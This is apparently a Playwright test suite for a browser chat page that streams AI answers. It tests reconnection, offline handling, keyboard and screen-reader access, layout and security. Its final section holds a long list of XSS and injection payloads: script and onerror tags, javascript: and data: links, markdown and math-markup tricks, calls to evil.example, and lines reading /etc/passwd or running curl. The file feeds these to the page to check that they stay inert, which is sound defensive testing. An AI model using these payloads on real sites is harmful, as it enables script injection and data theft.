def test_page_resumes_a_cut_answer_without_gap_or_repeat(
        page_relay, page_provider, page_tab):
    proxy = PageProxy(page_relay.server_port)
    tab = page_tab(proxy.url)
    tab.expects_trouble = True
    tab.open()
    words = ["w%d " % n for n in range(200)]
    tab.say("Two hundred words")
    job = page_provider.next()
    for n in range(0, 200, 20):
        job.push(*words[n:n + 10])
        tab.shows(words[n + 9].strip())
        proxy.cut()
        job.push(*words[n + 10:n + 20])
    proxy.cut(keep=True)
    tab.shows("Trying again…")
    proxy.mend()
    job.done()
    tab.idle()
    tab.answers("".join(words).strip())
    proxy.close()


@in_each_browser
def test_page_reload_picks_the_answer_up(page_provider, page_tab):
    tab = page_tab().open()
    tab.say("Long story")
    job = page_provider.next()
    job.push("Once ", "upon ")
    tab.shows("Once upon")
    tab.tab.reload()
    tab.shows("Once upon")
    job.push("a ", "time ")
    tab.shows("Once upon a time")
    tab.tab.goto("about:blank")
    job.done("it ended.")
    tab.tab.go_back()
    tab.idle()
    tab.shows("Once upon a time it ended.")


PAGE_SLOW_STORE = """
for (const [kind, name, delay] of [[IDBObjectStore, "", 900], [IDBIndex, "c", 300]]) {
    const getAll = kind.prototype.getAll;
    kind.prototype.getAll = function (key) {             // one that is asked for by name
        const end = performance.now() + delay;
        const wait = () => { if (performance.now() < end) this.get("x").onsuccess = wait; };
        if (name ? key === name : key) wait();
        return getAll.call(this, key); };
}"""


def test_page_reload_picks_the_answer_up_while_its_database_is_slow(page_provider, page_tab):
    tab = page_tab()
    tab.tab.context.add_init_script(PAGE_SLOW_STORE)
    tab.expects_trouble = True                           # the relay does not know the second
    tab.open()
    tab.say("Hello")
    job = page_provider.next()
    job.push("Half ")
    tab.shows("Half")
    tab.tab.evaluate(PAGE_STORE, [
        ["conversations", {"id": "c", "service": "Demo", "title": "Second", "leaf": "z"}],
        ["messages", {"id": "z", "conv": "c", "role": "assistant", "content": "", "state": "live",
                      "live": 1, "stream": {"key": "theirs", "at": 1}}]])
    tab.tab.reload()
    tab.shows("Half")
    job.done("and half")
    tab.answers("Half and half")
    tab.idle()


def test_page_keeps_what_came_when_the_provider_goes(page_relay, page_provider, page_tab):
    tab = page_tab().open()
    tab.expects_trouble = True
    tab.say("Tell me")
    job = page_provider.next()
    job.push("The answer is ")
    tab.shows("The answer is")
    page_provider.leave()
    tab.shows("Try again", ".trouble")
    tab.answers("The answer is")
    back = PageProvider(page_relay)
    tab.tab.click(".trouble button:text('Try again')")
    back.next().done("42")
    tab.shows("42")
    tab.shows("2/2")
    tab.idle()
    tab.say("And a fault?")
    back.next().fail("out of memory <b>")
    tab.shows("out of memory <b>", ".trouble")
    back.leave()


@in_each_browser
def test_page_is_of_use_while_the_service_is_offline(page_relay, page_tab):
    tab = page_tab()
    tab.expects_trouble = True
    tab.open()
    tab.shows("Offline right now", "#banner")
    tab.say("Are you there?")
    tab.shows("Your message is kept", ".trouble")
    tab.tab.click("text=Tell me when it is back")
    tab.tab.click("text=Send when it is back")
    tab.shows("Waiting until it is back online")
    provider = PageProvider(page_relay)
    tab.news()
    tab.shows("Demo is back.", ".toast")                 # for 8 s
    provider.next().done("Now I am.")
    tab.shows("Now I am.")
    tab.eventually("!document.querySelector('#banner .banner')")
    provider.leave()


def test_page_outlives_a_relay_that_restarts(page_tab):
    relay = PageRelay("Demo")
    provider = PageProvider(relay)
    proxy = PageProxy(relay.server_port)                 # as a process that ends would,
    tab = page_tab(proxy.url)                            # it closes all connections
    tab.expects_trouble = True
    tab.open()
    tab.say("Before")
    provider.next().done("Yes")
    tab.idle()
    proxy.cut(keep=True)
    relay.stop()
    tab.say("Anyone?")
    tab.shows("Trying again…")
    tab.news()
    tab.news()
    tab.shows("The relay cannot be reached", "#banner")
    relay = PageRelay("Demo")
    provider = PageProvider(relay)
    proxy.to = relay.server_port
    proxy.mend()
    tab.news()
    provider.next().done("Back")
    tab.shows("Back")
    tab.eventually("!document.querySelector('#banner .banner')")
    relay.stop()
    proxy.close()


@in_each_browser
def test_page_notices_a_relay_that_hangs(page_tab):
    page = read_page().replace(b"SILENCE_MS = 25000", b"SILENCE_MS = 1000")
    assert page != read_page()
    relay = PageRelay("Demo", page=page)
    proxy = PageProxy(relay.server_port)
    tab = page_tab(proxy.url)
    tab.expects_trouble = True
    tab.open()
    proxy.flows.clear()
    tab.news()
    tab.news()
    tab.shows("The relay cannot be reached", "#banner")
    proxy.flows.set()
    tab.news()
    tab.eventually("!document.querySelector('#banner').innerText.includes('reached')")
    relay.stop()
    proxy.close()


def test_page_understands_what_proxies_say_in_their_own_pages(page_provider, page_tab):
    tab, status = page_tab().open(), [413]
    tab.expects_trouble = True
    tab.tab.route("**/Demo", lambda route: route.fulfill(
        status=status[0], content_type="text/html", body="<html><h1>nginx</h1></html>"))
    tab.say("Too large")
    tab.shows("This is too large for the relay", ".trouble")
    for status[0] in (502, 503, 504):
        tab.tab.click("#new")
        tab.say("Anyone?")
        tab.shows("The relay cannot be reached. Trying again…")
        tab.tab.click("#stop")
        tab.idle()


def test_page_says_in_words_that_a_service_does_not_exist(page_tab):
    tab = page_tab()
    tab.expects_trouble = True
    tab.open("/Nowhere")
    tab.shows("There is no service Nowhere here", "#banner")
    assert not tab.tab.is_visible("#composer")           # nor is one invited to talk to it
    assert "Say something" not in tab.tab.inner_text("#room")


# 4. For everyone


def test_page_works_by_keyboard_alone(page_provider, page_tab):
    tab = page_tab().open("/")
    tab.tab.wait_for_selector(".card")
    for _ in range(8):
        tab.tab.keyboard.press("Tab")
        if tab.tab.evaluate("Boolean(document.activeElement.closest('.card'))"):
            break
    assert tab.tab.evaluate(
        "getComputedStyle(document.activeElement, '::after').outlineStyle") == "solid"
    tab.tab.keyboard.press("Enter")
    tab.tab.wait_for_selector("#input:focus")
    tab.tab.keyboard.type("Line one")
    tab.tab.keyboard.press("Shift+Enter")
    tab.tab.keyboard.type("line two")
    tab.tab.keyboard.press("Enter")
    job = page_provider.next()
    assert job.request["messages"][0]["content"] == "Line one\nline two"
    job.push("Endless")
    tab.shows("Endless")
    tab.tab.keyboard.press("Escape")
    assert job.cancelled.wait(PAGE_WAIT / 1000)
    tab.idle()
    seen = set()
    for _ in range(60):
        tab.tab.keyboard.press("Shift+Tab")
        name = tab.tab.evaluate("(document.activeElement.getAttribute('aria-label') || "
                                "document.activeElement.textContent).trim()")
        outline = tab.tab.evaluate("getComputedStyle(document.activeElement).outlineWidth")
        assert outline != "0px", name                    # focus can be seen
        seen.add(name)
    assert {"Copy", "Answer again", "Continue", "Edit and send again", "Settings",
            "Use it from code", "New conversation", "Export and import"} <= seen


def page_focus(tab):
    """What has the focus, as one who hears the page would name it."""
    return tab.tab.evaluate("""() => { const el = document.activeElement;
        return (el.getAttribute("aria-label") || el.labels?.[0]?.textContent
            || el.textContent).trim().slice(0, 60); }""")


def page_focus_comes_to(tab, name):
    deadline = time.monotonic() + PAGE_WAIT / 1000
    while page_focus(tab) != name and time.monotonic() < deadline:
        tab.tab.wait_for_timeout(20)
    assert page_focus(tab) == name


def page_tab_to(tab, name, key="Tab"):
    for _ in range(60):
        if page_focus(tab) == name:
            return
        tab.tab.keyboard.press(key)
    raise AssertionError("%s is not reached, but %s" % (name, page_focus(tab)))


def test_page_keeps_the_focus_where_the_keyboard_was(page_provider, page_tab):
    tab = page_tab().open()
    press = tab.tab.keyboard.press
    page_talk(tab, page_provider, "Hello", "One")
    page_tab_to(tab, "Answer again", "Shift+Tab")
    press("Enter")
    tab.prompt(page_provider).done("Two")
    tab.answers("Two")
    tab.idle()
    page_tab_to(tab, "Previous version", "Shift+Tab")
    press("Enter")
    tab.answers("One")
    assert page_focus(tab) == "Previous version"         # and again goes back to the other
    press("Enter")
    tab.answers("Two")
    page_tab_to(tab, "More")
    press("Enter")
    tab.tab.wait_for_selector(".message.last .items button")     # it opens a moment later
    page_tab_to(tab, "Read aloud")
    press("Escape")
    assert page_focus(tab) == "More"
    page_tab_to(tab, "Edit the answer", "Shift+Tab")
    press("Enter")
    tab.tab.keyboard.type("Three")
    press("Tab")
    press("Enter")
    tab.answers("TwoThree")
    assert page_focus(tab) == "Message"
    page_tab_to(tab, "Rename Hello", "Shift+Tab")
    press("Enter")
    tab.tab.keyboard.type("Renamed")
    press("Enter")
    assert page_focus(tab) == "Renamed"
    page_tab_to(tab, "Delete Renamed")
    press("Enter")
    tab.shows("Deleted “Renamed”", ".toast")
    page_tab_to(tab, "Undo")
    press("Enter")
    tab.shows("Renamed", ".list")
    assert page_focus(tab) == "Message" and tab.live() == "It is there again."


@in_each_browser
def test_page_opens_one_dialog_from_another(page_provider, page_tab):
    tab = page_tab().open()
    for button, first in (("Enter a key", "Key from its operator"),
                          ("Keyboard shortcuts", "Close")):
        tab.tab.click("#open-settings")
        tab.tab.click("#dialog button:text('%s')" % button)
        page_focus_comes_to(tab, first)
        tab.tab.keyboard.press("Escape")
        tab.tab.wait_for_selector("#open-settings:focus")


@in_each_browser
def test_page_leaves_the_search_by_escape_and_stops_no_answer(page_provider, page_tab):
    tab = page_tab().open()
    job = page_begin(tab, page_provider)
    tab.tab.fill("#search", "cats")
    tab.tab.press("#search", "Escape")
    tab.eventually("document.querySelectorAll('.list .pick').length === 1")
    assert tab.tab.input_value("#search") == ""
    tab.tab.keyboard.press("Escape")
    tab.tab.wait_for_selector("#input:focus")
    job.done(", 3")
    tab.answers("1, 2, 3")


def test_page_notice_stays_while_its_button_is_in_use(page_provider, page_tab):
    tab = page_tab()
    tab.tab.clock.install()
    tab.open()
    page_talk(tab, page_provider, "Hello", "One")
    tab.tab.click("[aria-label='Delete Hello']")
    page_tab_to(tab, "Undo")
    tab.tab.clock.run_for(60000)
    assert page_focus(tab) == "Undo"
    tab.tab.keyboard.press("Shift+Tab")
    tab.tab.clock.run_for(4000)
    assert not tab.tab.query_selector(".toast")


def test_page_reads_out_what_happens_in_a_dialog(page_relay, page_tab):
    tab = page_tab().open("/")
    page_manage(tab, page_relay.keys["Demo"])
    assert tab.tab.query_selector("#dialog #live")       # all else is inert
    tab.tab.fill("#guest-label", "Bob")
    tab.tab.press("#guest-label", "Enter")
    tab.tab.wait_for_selector("#invite button:focus")
    assert tab.live().startswith("An invite link for Bob")
    tab.tab.click("text=Revoke")
    tab.tab.click("text=Revoke it?")
    tab.tab.wait_for_selector("#guest-label:focus")
    assert tab.live() == "The key of Bob no longer works."
    tab.tab.keyboard.press("Escape")
    tab.eventually("document.querySelector('body > .toasts > #live')")


@in_each_browser
def test_page_menus_obey_the_arrow_keys_and_close_behind_the_focus(page_provider, page_tab):
    tab = page_tab().open()
    page_talk(tab, page_provider, "Hello", "One")
    press = tab.tab.keyboard.press
    tab.tab.focus(".picker summary")
    for key, name in (("ArrowDown", "Demo"), ("ArrowDown", "Demo"), ("ArrowDown", "All models"),
                      ("ArrowDown", "All models"), ("ArrowUp", "Demo")):
        press(key)
        assert page_focus(tab).startswith(name), key
    tab.tab.focus(".message.last .under summary")
    assert not tab.tab.evaluate("document.querySelector('.picker').open")
    press("Enter")
    tab.tab.wait_for_selector(".message.last .items button")
    tab.tab.focus("#log")                                # as Safari does for a click
    tab.tab.focus(".message.last .under summary")
    press("ArrowDown")
    assert page_focus(tab) == "Fork from here"
    press("Enter")
    tab.shows("This is a copy", ".toast")


def test_page_list_of_conversations_is_one_stop_of_the_tab_key(page_provider, page_tab):
    tab = page_tab().open()
    press = tab.tab.keyboard.press
    for n in range(4):
        tab.tab.click("#new")
        page_talk(tab, page_provider, "Talk %d" % n, "One")
    press("Control+k")
    for key, name in (("ArrowDown", "Talk 3"), ("ArrowDown", "Talk 2"), ("Tab", "Rename Talk 2"),
                      ("Tab", "Delete Talk 2"), ("ArrowDown", "Talk 1"), ("Tab", "Rename Talk 1"),
                      ("Tab", "Delete Talk 1"), ("Tab", "Export and import"),
                      ("Shift+Tab", "Talk 1"), ("ArrowUp", "Talk 2"),
                      ("ArrowUp", "Talk 3"), ("ArrowUp", "Search conversations")):
        press(key)
        assert page_focus(tab) == name, key
    tab.tab.keyboard.type("talk 0")
    tab.shows("1 match", "#list-note")
    press("Enter")
    tab.tab.wait_for_selector("#input:focus")
    tab.shows("Talk 0", ".message.user")


@in_each_browser
def test_page_boxes_are_stops_of_the_tab_key_only_if_they_scroll(page_provider, page_tab):
    tab = page_tab().open()
    for width, wanted in ((1, False), (120, True)):
        word = "x" * width
        page_talk(tab, page_provider, "Show", "|a|b|\n|-|-|\n|1|2|\n\n"
                  "$$\\frac{%s}{2}$$\n\n```py\n%s\n```" % ("+".join(word), word), word)
        seen = set()
        tab.tab.focus("#input")
        for _ in range(10):
            tab.tab.keyboard.press("Shift+Tab")
            seen.add(page_focus(tab))
        assert ({"py code", "Formula"} <= seen) is wanted, seen
        assert "Table" not in seen


@in_each_browser
def test_page_composer_turns_the_pages_of_the_conversation(page_provider, page_tab):
    tab = page_tab().open()
    page_talk(tab, page_provider, "Long", "\n\n".join("line %d" % n for n in range(200)),
              "line 199")
    at_end = "(() => { const log = document.querySelector('#log');" \
        "return log.scrollHeight - log.scrollTop - log.clientHeight < 2; })()"
    tab.eventually(at_end)
    tab.tab.press("#input", "PageUp")
    tab.eventually("!" + at_end)
    tab.tab.press("#input", "PageDown")
    tab.eventually(at_end)
    tab.at_rest("document.querySelector('#log').scrollTop")         # the page knows it, too
    tab.tab.fill("#input", "\n" * 80)                    # a long text has pages itself
    tab.eventually(at_end)
    tab.tab.press("#input", "PageUp")
    assert tab.tab.evaluate(at_end)


@in_each_browser
def test_page_editor_is_wide_whole_and_saved_by_a_key(page_provider, page_tab):
    tab = page_tab().open()
    page_talk(tab, page_provider, "Hi", "\n\n".join("line %d" % n for n in range(60)), "line 59")
    tab.tab.press("#input", "ArrowUp")
    tab.tab.wait_for_selector(".editing textarea")
    assert tab.tab.evaluate("document.querySelector('.editing').offsetWidth") > 400
    tab.tab.keyboard.press("Escape")
    tab.tab.click(".message.last [aria-label='Edit the answer']")
    tab.eventually("""(() => { const save = document.querySelector(".editing .primary");
        return save.getBoundingClientRect().bottom
            <= document.querySelector("#log").getBoundingClientRect().bottom; })()""")
    tab.tab.fill(".editing textarea", "Mine")
    tab.tab.press(".editing textarea", "Control+Enter")
    tab.answers("Mine")
    assert page_focus(tab) == "Message"
    tab.tab.click(".message.last [aria-label='Previous version']")
    tab.eventually("document.querySelector('#live').textContent === 'Version 1 of 2.'")


@in_each_browser
def test_page_reads_out_states_and_the_whole_answer_once(page_provider, page_tab):
    tab = page_tab().open()
    tab.tab.evaluate("""() => { window.spoken = []; new MutationObserver(() => spoken.push(
        document.querySelector("#live").textContent)).observe(document.querySelector("#live"),
        {childList: true, characterData: true, subtree: true}); }""")
    tab.say("Hello")
    job = page_provider.next()
    for word in ("One ", "two ", "three."):
        job.push(word)
        tab.shows(word.strip())
    job.done()
    tab.idle()
    tab.eventually("spoken.includes('Answer: One two three.')")
    assert tab.tab.evaluate("spoken") == ["Waiting for the answer.",
                                          "Answer: One two three."]
    assert tab.tab.get_attribute("#log", "role") == "log"
    assert tab.tab.get_attribute("#log", "aria-live") == "off"


@in_each_browser
def test_page_leaves_enter_to_the_input_method(page_provider, page_tab):
    tab = page_tab().open()
    tab.tab.fill("#input", "にほん")
    for fields in ("isComposing: true", "keyCode: 229"):
        tab.tab.evaluate("document.querySelector('#input').dispatchEvent(new KeyboardEvent("
                         "'keydown', {key: 'Enter', bubbles: true, cancelable: true, %s}))"
                         % fields)
    assert tab.tab.input_value("#input") == "にほん"
    tab.tab.press("#input", "Enter")
    assert page_provider.next().request["messages"][0]["content"] == "にほん"


def test_page_enter_on_phones_is_a_new_line_or_as_set(page_provider, page_tab):
    tab = page_tab(has_touch=True, is_mobile=True,
                   viewport={"width": 390, "height": 800}).open()
    tab.say("One")
    assert tab.tab.input_value("#input") == "One\n"
    tab.tab.click("#open-settings")
    tab.tab.select_option("#preferences-enter", "send")
    tab.tab.keyboard.press("Escape")
    tab.say("Two")
    assert page_provider.next().request["messages"][0]["content"] == "Two"
    tab.tab.click("#open-side")
    tab.tab.wait_for_selector("#close-side:focus")
    tab.tab.keyboard.press("Escape")
    tab.tab.wait_for_selector("#open-side:focus")


def page_scrolls_away(tab, scroll):
    """Scroll, and again if that did nothing: it may have been too little."""
    deadline, turns = time.monotonic() + PAGE_WAIT / 1000, 0
    while not tab.tab.is_visible("#latest"):
        if turns % 40 == 0:
            scroll()
        turns += 1
        tab.tab.wait_for_timeout(50)
        assert time.monotonic() < deadline, "it does not scroll"


@in_each_browser
def test_page_scrolling_never_fights_the_reader(page_provider, page_tab):
    tab = page_tab().open()
    tab.say("Many lines")
    job = page_provider.next()
    job.push(*["line %d\n\n" % n for n in range(80)])
    tab.shows("line 79")
    at_end = "(() => { const l = document.querySelector('#log'); " \
        "return l.scrollHeight - l.scrollTop - l.clientHeight < 40; })()"
    tab.eventually(at_end)
    tab.tab.hover("#log")
    page_scrolls_away(tab, lambda: tab.tab.mouse.wheel(0, -600))
    place = "document.querySelector('#log').scrollTop"
    top = tab.at_rest(place)
    job.push(*["more %d\n\n" % n for n in range(80)])
    tab.shows("more 79")
    assert abs(tab.tab.evaluate(place) - top) < 2
    tab.tab.click("#latest")
    tab.eventually(at_end)
    job.push(*["last %d\n\n" % n for n in range(40)])
    tab.shows("last 39")
    tab.eventually(at_end)
    job.done()
    tab.idle()


def test_page_right_to_left_and_reduced_motion(page_provider, page_tab):
    tab = page_tab(reduced_motion="reduce").open()
    tab.say("שלום עולם")
    job = page_provider.next()
    job.push("مرحبا بالعالم\n\n- نقطة\n\nEnglish")
    tab.shows("English")
    assert tab.tab.evaluate(
        "getComputedStyle(document.querySelector('.pulse')).animationName") == "none"
    job.done()
    tab.idle()
    directions = tab.tab.evaluate(
        "[...document.querySelectorAll('.said, .last .md > p, .last .md li')].map("
        "(el) => getComputedStyle(el).direction)")
    assert directions == ["rtl", "rtl", "rtl", "ltr"]


PAGE_WIDE = ("A " + "verylongword" * 30 + "\n\n```\n" + "code " * 80 + "\n```\n\n|" +
             "|".join(["head %d" % n for n in range(12)]) + "|\n" + "|---" * 12 +
             "|\n|" + "cell|" * 12)


@pytest.mark.parametrize("width, height, scale, font", [
    (320, 640, 1, "100%"), (640, 400, 2, "100%"), (640, 800, 1, "200%"),
    (1920, 1080, 1, "100%")], ids=["320px", "zoom-200", "text-200", "large"])
def test_page_never_scrolls_sideways(page_relay, page_provider, page_tab,
                                     width, height, scale, font):
    page_relay.add("L" + "o" * 62 + "g", "O" * 100, "C" * 300)
    tab = page_tab(viewport={"width": width, "height": height},
                   device_scale_factor=scale).open("/")
    grow = "document.documentElement.style.fontSize = '%s'" % font
    tab.tab.evaluate(grow)
    tab.tab.wait_for_selector(".card")
    assert tab.wide() == []
    for button, dialog in (("#open-share", "share"), ("#open-manage", "manage")):
        tab.tab.click(button)
        assert tab.wide() == [], dialog
        tab.tab.keyboard.press("Escape")
    tab.tab.click(".card >> text=Demo")
    tab.say("Wide " + "w" * 300)
    page_provider.next().done(PAGE_WIDE)
    tab.idle()
    tab.shows("cell")
    assert tab.wide() == []
    if tab.tab.is_visible("#open-side"):
        tab.tab.click("#open-side")
        tab.tab.wait_for_selector("#close-side:focus")
        tab.eventually("document.querySelector('#side').getBoundingClientRect().left === 0")
        assert tab.wide() == []
        tab.tab.keyboard.press("Escape")
    for button in ("#open-settings", "#open-code"):
        tab.tab.click(button)
        assert tab.wide() == [], button
        tab.tab.keyboard.press("Escape")
    tab.tab.evaluate("document.querySelector('#input').scrollIntoView()")
    box = tab.tab.locator("#input").bounding_box()
    assert box["y"] + box["height"] <= height            # the composer is on the screen


# 5. Strict


def test_page_is_one_small_strict_file(page_relay, page_provider, page_tab):
    page = read_page().decode("utf-8")
    assert len(neuroengine_server.gzipped(page.encode("utf-8"), 9)) <= 64 * 1024
    with open(os.path.join(HERE, "chat.html"), encoding="utf-8") as file:
        symbols = re.findall(r"addSymbols\(\"\w+\", `[^`]*`", file.read())
    assert [block.split() for block in symbols] == [
        block.split() for block in re.findall(r"addSymbols\(\"\w+\", `[^`]*`", page)]
    markup = page.partition("<body>")[2].partition("<script>")[0]
    assert not re.search(r"<[^>]*\s(on\w+|style)\s*=", markup)
    assert not re.search(r"(?:src|href)=\"(?!/|#|data:)", page.partition("<script>")[0])
    assert not re.search(r"innerHTML|outerHTML|insertAdjacentHTML|document\.write|"
                         r"\beval\(|new Function|document\.cookie", page)
    tab = page_tab().open()
    policy = tab.tab.request.get(page_relay.url + "/Demo").headers["content-security-policy"]
    assert "default-src 'none'" in policy and "unsafe" not in policy
    tab.say("Hello")
    page_provider.next().done("![pic](https://evil.example/p.png) [l](https://evil.example/)")
    tab.idle()
    assert tab.tab.evaluate("violations") == []
    assert all(r.url.startswith((page_relay.url, "data:")) for r in tab.requests)
    assert {r.url[len(page_relay.url):] for r in tab.requests
            if r.url.startswith("http")} == {"/Demo", "/api/models"}
    assert tab.tab.context.cookies() == []


# What tries to be more than text: each line stands alone.
PAGE_ATTACKS = r"""
<script>pwned=1</script>
<script src="https://evil.example/x.js"></script>
<SCRIPT/x>pwned=1</SCRIPT >
<scr<script>ipt>pwned=1</scr</script>ipt>
<script type=module>import "https://evil.example/x.js"</script>
</article></div></main><script>pwned=1</script>
--><script>pwned=1</script><!--
]]><script>pwned=1</script>
<!--><img src=x onerror=pwned=1>-->
</textarea></title></style><img src=x onerror=pwned=1>
<img src=x onerror=pwned=1>
<img/src=x/onerror=pwned=1>
<IMG SRC="https://evil.example/i.png">
<img srcset="https://evil.example/i.png 2x">
<image href=x onerror=pwned=1>
<picture><source srcset="https://evil.example/i.png"><img></picture>
<svg onload=pwned=1>
<svg><script>pwned=1</script></svg>
<svg><animate onbegin=pwned=1 attributeName=x dur=1s>
<svg><use href="data:image/svg+xml,<svg id=x><script>pwned=1</script></svg>#x"/></svg>
<svg><image href="https://evil.example/i.png"/></svg>
<svg><a xlink:href="javascript:pwned=1"><text y=9>x</text></a></svg>
<math><mtext><table><mglyph><style><img src=x onerror=pwned=1>
<math href="javascript:pwned=1">x</math>
<math><maction actiontype="statusline#https://evil.example">x</maction></math>
<iframe src="javascript:pwned=1"></iframe>
<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>
<iframe src="https://evil.example/"></iframe>
<object data="data:text/html,<script>parent.pwned=1</script>"></object>
<embed src="https://evil.example/x.swf">
<applet code="https://evil.example/x.class">
<frameset onload=pwned=1><frame src=x>
<portal src="https://evil.example/">
<link rel=stylesheet href="https://evil.example/x.css">
<link rel=prefetch href="https://evil.example/">
<link rel=dns-prefetch href="//evil.example">
<meta http-equiv=refresh content="0;url=https://evil.example/">
<meta http-equiv=refresh content="0;url=javascript:pwned=1">
<base href="https://evil.example/">
<style>@import "https://evil.example/x.css"; * { display: none }</style>
<style>* { background: url(https://evil.example/i.png) }</style>
<p style="background: url(https://evil.example/i.png)">x</p>
<body onload=pwned=1 background="https://evil.example/i.png">
<table background="https://evil.example/i.png"><td>x</table>
<video src=x onerror=pwned=1></video>
<video poster="https://evil.example/i.png"></video>
<audio src="https://evil.example/a.mp3" autoplay></audio>
<input autofocus onfocus=pwned=1>
<select autofocus onfocus=pwned=1>
<textarea autofocus onfocus=pwned=1>
<keygen autofocus onfocus=pwned=1>
<details open ontoggle=pwned=1>
<marquee onstart=pwned=1>x</marquee>
<div onpointerrawupdate=pwned=1 onmouseover=pwned=1>x</div>
<a href="javascript:pwned=1">x</a>
<a ping="https://evil.example/" href="#">x</a>
<form action="javascript:pwned=1"><button>x</button></form>
<form action="https://evil.example/"><input name=key></form>
<form id=composer><input id=input></form>
<button formaction="javascript:pwned=1">x</button>
<isindex action="javascript:pwned=1">
<template shadowrootmode=open><script>pwned=1</script></template>
<noscript><p title="</noscript><img src=x onerror=pwned=1>">
<xmp><img src=x onerror=pwned=1></xmp>
<plaintext>
<a id=state><a id=state name=conv>
<b contenteditable accesskey=x onbeforecopy=pwned=1>x</b>
<sub onclick=pwned=1>x</sub> <kbd style="color: red">x</kbd> <br onload=pwned=1>
<sub><img src=x onerror=pwned=1></sub>
<kbd><script>pwned=1</script></kbd>
&lt;img src=x onerror=pwned=1&gt;
&#60;script&#62;pwned=1&#60;/script&#62;
&amp;lt;script&amp;gt;pwned=1
\<script>pwned=1\</script>
\u003cscript\u003epwned=1\u003c/script\u003e
+ADw-script+AD4-pwned=1
{{constructor.constructor('pwned=1')()}} ${pwned=1} <%=pwned=1%> #{pwned=1}
[a](javascript:pwned=1)
[a](JaVaScRiPt:pwned=1)
[a]( javascript:pwned=1 )
[a](<javascript:pwned=1>)
[a](java&#10;script:pwned=1)
[a](javascript&colon;pwned=1)
[a](&#x6A;avascript:pwned=1)
[a](\javascript:pwned=1)
[a](java%0ascript:pwned=1)
[a](javascript://https://ok.example/%0apwned=1)
[a](https:javascript:pwned=1)
[a](view-source:javascript:pwned=1)
[a](data:text/html,<script>pwned=1</script>)
[a](data:text/html;base64,PHNjcmlwdD5wd25lZD0xPC9zY3JpcHQ+)
[a](vbscript:pwned=1)
[a](blob:https://evil.example/x)
[a](file:///etc/passwd)
[a](intent://evil.example#Intent;scheme=http;end)
[a](//evil.example/)
[a](/Demo#k=stolen)
[a](#c=0123456789abcdef)
[a](https://ok.example/"onmouseover="pwned=1)
[a](https://ok.example/ "x\" onmouseover=\"pwned=1")
[a](https://ok.example/'onclick='pwned=1')
[<img src=x onerror=pwned=1>](https://ok.example/)
[![a](javascript:pwned=1)](javascript:pwned=1)
![a](https://evil.example/i.png)
![a](javascript:pwned=1)
![a](data:image/svg+xml,<svg/onload=pwned=1>)
![" onerror="pwned=1](x)
![a](https://evil.example/" onerror="pwned=1)
[![a](https://evil.example/i.png)](https://ok.example/)
<javascript:pwned=1>
<https://ok.example/"onclick=pwned=1>
<mailto:a@ok.example?body=<script>pwned=1</script>>
https://ok.example/<script>pwned=1</script>
https://ok.example/"onmouseover="pwned=1
javascript:pwned=1
[r]: javascript:pwned=1
[r2]: https://ok.example/"onclick="pwned=1 "<script>"
[r] [a][r2] [^n] [^"><script>pwned=1</script>]
[^n]: <script>pwned=1</script>
# <script>pwned=1</script> {#x onclick=pwned=1}
> <script>pwned=1</script>
- [x] <img src=x onerror=pwned=1>
`<script>pwned=1</script>` ``<img src=x onerror=pwned=1>``
**<img src=x onerror=pwned=1>** ~~<svg onload=pwned=1>~~ *[a](javascript:pwned=1)*
    <script>pwned=1</script>
$\href{javascript:pwned=1}{x}$
$\url{javascript:pwned=1}$
$\includegraphics{https://evil.example/i.png}$
$\html{<img src=x onerror=pwned=1>}$ $\unicode{<script>pwned=1</script>}$
$\htmlClass{x" onclick="pwned=1}{x}$ $\style{background: url(https://evil.example/)}{x}$
$\class{x}{y}$ $\cssId{composer}{x}$ $\require{https://evil.example/x.js}$
$\text{<script>pwned=1</script>}$
$\operatorname{<img src=x onerror=pwned=1>}$
$\color{red" onclick="pwned=1}{x}$ $\textcolor{url(https://evil.example/)}{x}$
$\def\x{\x\x}\x$ $\newcommand{\frac}{<script>}$ $\csname script\endcsname$
$\constructor$ $\__proto__$ $\toString{x}$ $\begin{constructor}x\end{constructor}$
$$\begin{array}{c" onclick="pwned=1}x\end{array}$$
$$\frac{</math><script>pwned=1</script>}{x}$$
\(\xrightarrow{<svg onload=pwned=1>}\) \[\sqrt[<img src=x onerror=pwned=1>]{x}\]
\input{/etc/passwd} \write18{curl https://evil.example}
"""

PAGE_HOSTILE = r"""[a](java
script:pwned=1) [a](
javascript:pwned=1)
<img src=x
onerror=pwned=1>

| <iframe src=javascript:pwned=1> | [a](javascript:pwned=1) | [a](javascript:pwned=1) |
|---|:-:|--:|
| <object data=x> | <script>pwned=1</script> | RLO |
| `|<script>pwned=1</script>|` | ![a](https://evil.example/i.png) | $\href{javascript:pwned=1}{x}$ |

```html"><script>pwned=1</script>
if (user RLO { admin \u2066 <script>pwned=1</script>
```
```x" onclick="pwned=1
```
~~~<img/src=x/onerror=pwned=1>
~~~
```__proto__
"</pre><script>pwned=1</script>"
```
```constructor
```
```js
`${pwned=1}` "</code></pre><img src=x onerror=pwned=1>" // <script>pwned=1</script>
```
```svg
<svg onload=pwned=1><script>pwned=1</script></svg>
```
```mermaid
click A "javascript:pwned=1"
```
$$
\begin{matrix} <img src=x onerror=pwned=1> & \href{javascript:pwned=1}{x} \end{matrix}
$$
<details open ontoggle=pwned=1>

<script>pwned=1</script>

</details>

""".replace("RLO", "\u202e").replace(r"\u2066", "\u2066") + \
    "\n\n".join(PAGE_ATTACKS.split("\n")) + \
    "\x00<\x00script>pwned=1</script>\x1b]8;;https://evil.example\x07\ufeff<script>" + \
    "[" * 3000 + "*" * 3000 + "`" * 999 + ">" * 500 + "\n" + "> " * 500 + "deep\n" + \
    "".join("  " * n + "- x\n" for n in range(200))


def page_is_unharmed(tab):
    """Nothing of a hostile text has become more than text."""
    assert tab.tab.evaluate("window.pwned") is None
    assert tab.tab.evaluate("""[...document.querySelectorAll(`body :is(#chat script, iframe, object,
        embed, style, link, meta, base, video, audio, template, maction, mglyph, image,
        img:not([src^='data:image/']), svg:not(.icon), form:not(#composer, .editing)),
        #messages :is(input, select, textarea)`)].map((el) => el.outerHTML)""") == []
    assert tab.tab.evaluate(r"""[...document.querySelectorAll("#chat :not(#input)")].flatMap((el) =>
        [...el.attributes].filter(({name, value}) => (name === "href"
            ? !/^(https?:|mailto:|\/)/.test(value) || (value[0] === "/" && el.closest(".md"))
            : /^on|^style$|src.|action|ping|background|poster|:|access|edit/.test(name))
            || (name === "id" && el.closest(".md"))).map(({name}) => name))""") == []
    assert tab.tab.evaluate("performance.getEntriesByType('resource').map((e) => e.name)"
                            ".filter((name) => !name.startsWith(location.origin))") == []
    assert tab.tab.evaluate("violations") == []


@in_each_browser
